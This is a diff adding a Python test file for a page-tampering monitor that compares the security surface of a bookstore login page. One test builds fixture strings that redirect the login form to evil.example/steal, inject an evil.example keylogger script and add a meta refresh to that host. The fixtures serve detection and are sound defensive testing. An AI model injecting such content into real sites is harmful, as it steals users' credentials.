@@ -0,0 +1,92 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+보안 표면 추출/비교 테스트
+폼 action 변조, 스크립트 삽입, iframe 교체를 심각도와 함께 보고하는지, 기록이 내용별로 한 번만 저장되는지 확인
+"""
+
+import os
+import sqlite3
+
+import database
+import security_surface
+from compare_snapshots import find_security_changes
+from database import setup_database
+from normalizer import normalize
+from retention import compact
+from saver import insert_snapshot
+from security_surface import compare, extract, load_surface, max_severity
+
+TEST_PAGES_DIR = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_pages")
+URL = "https://mmbr.kyobobook.co.kr/login"
+
+PAGE = """<html><head><meta http-equiv="Content-Type" content="text/html">
+<script src="/js/app.js?t=1712345678"></script><script>var a = 1;</script>
+<!-- <script src="https://commented.example/x.js"></script> -->
+<link rel="stylesheet" href="https://fonts.googleapis.com/css"></head>
+<body><form method="post" action="/login"><input name="id"><input type="password" name="pw"></form>
+<iframe src="https://chat.example.com/widget"></iframe></body></html>"""
+
+def read_page(name):
+    with open(os.path.join(TEST_PAGES_DIR, name), "r", encoding="utf-8") as f:
+        return f.read()
+
+def test_extract_builds_sorted_record():
+    assert extract(normalize(PAGE, URL), URL) == {
+        "forms": ["POST https://mmbr.kyobobook.co.kr/login"],
+        "scripts": ["https://mmbr.kyobobook.co.kr/js/app.js?t=TIMESTAMP"],
+        "inline_scripts": [security_surface._script_hash("var a = 1;")],
+        "iframes": ["https://chat.example.com/widget"],
+        "origins": ["https://chat.example.com", "https://fonts.googleapis.com"],
+        "meta_refresh": [],
+    }
+
+def test_compare_flags_tampering_by_severity():
+    tampered = (PAGE.replace('action="/login"', 'action="https://evil.example/steal"')
+                    .replace("</body>", '<script src="https://evil.example/keylog.js"></script>'
+                                        '<meta http-equiv="refresh" content="0;url=https://evil.example"></body>'))
+    findings = compare(extract(PAGE, URL), extract(tampered, URL))
+    assert max_severity(findings) == "high"
+    assert {(f["field"], f["change"], f["severity"]) for f in findings} == {
+        ("forms", "added", "high"),
+        ("forms", "removed", "low"),
+        ("scripts", "added", "high"),
+        ("meta_refresh", "added", "high"),
+        ("origins", "added", "medium"),
+    }
+    assert [f["severity"] for f in findings] == sorted((f["severity"] for f in findings), key=security_surface.SEVERITY_ORDER.get)
+    assert compare(extract(PAGE, URL), extract(PAGE.replace("var a = 1;", "var a  =  1;"), URL)) == []
+
+def test_volatile_tokens_are_not_security_changes():
+    new = PAGE.replace("1712345678", "1799999999")
+    # 정규화하지 않으면 캐시 무효화 파라미터 변경이 스크립트 추가로 보임
+    assert max_severity(compare(extract(PAGE, URL), extract(new, URL))) == "high"
+    assert find_security_changes(PAGE, new, URL) == ""
+    # 같은 호스트의 절대 URL은 외부 출처가 아님
+    first_party = PAGE.replace('src="/js/app.js', 'src="https://mmbr.kyobobook.co.kr/js/app.js')
+    assert find_security_changes(PAGE, first_party, URL) == ""
+
+def test_test_pages_only_flag_security_changes():
+    original = extract(normalize(read_page("original.html"), URL), URL)
+    assert compare(original, extract(normalize(read_page("text_modified.html"), URL), URL)) == []
+    findings = compare(original, extract(normalize(read_page("url_modified.html"), URL), URL))
+    assert max_severity(findings) == "high"
+    assert any(f["field"] == "scripts" and "evil-site.com" in f["value"] for f in findings)
+
+def test_surface_stored_once(tmp_path, monkeypatch):
+    monkeypatch.setattr(database, "DATABASE_PATH", str(tmp_path / "surface.db"))
+    setup_database()
+    surface = extract(normalize(PAGE, URL), URL)
+    with database.get_connection() as conn:
+        insert_snapshot(conn, URL, "h1", PAGE, len(PAGE), True, "최초", surface=surface)
+        insert_snapshot(conn, URL, "h1", PAGE, len(PAGE), False, "변경 없음", surface=surface)
+        assert load_surface(conn, security_surface.surface_hash(surface)) == surface
+    with sqlite3.connect(database.DATABASE_PATH) as conn:
+        assert conn.execute("SELECT COUNT(*) FROM security_surfaces").fetchone()[0] == 1
+        assert conn.execute("SELECT COUNT(DISTINCT surface_hash) FROM snapshots").fetchone()[0] == 1
+
+    # 참조하는 스냅샷이 없어진 기록은 정리 대상
+    with sqlite3.connect(database.DATABASE_PATH) as conn:
+        conn.execute("UPDATE snapshots SET surface_hash = NULL")
+        conn.execute("UPDATE latest_snapshots SET surface_hash = NULL")
+    assert compact()["surfaces_deleted"] == 1